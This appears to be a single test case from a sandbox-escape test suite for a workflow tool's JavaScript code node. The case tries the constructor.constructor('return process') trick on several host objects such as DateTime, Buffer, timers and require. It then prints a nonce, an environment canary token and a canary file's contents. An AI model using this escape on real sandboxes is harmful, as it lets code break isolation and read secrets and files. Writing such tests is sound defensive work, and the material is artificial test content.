// id: js-n-139 | family: escape | goal: the realm behind host objects: luxon, jmespath, Buffer, timers
// timeout: 5
const t = setTimeout(() => 0, 1);
for (const o of [DateTime, $jmespath, Buffer, t, console, require, $getWorkflowStaticData, btoa, TextDecoder])
  try { const PX = o.constructor.constructor('return process')(); if (PX && PX.env) console.log('ESC' + 'APED_@@NONCE@@'); console.log(PX.env.CANARY_TOKEN, PX.getBuiltinModule('fs').readFileSync('@@CANARY_FILE@@', 'utf8')); } catch (e) { console.log(String(e)); }
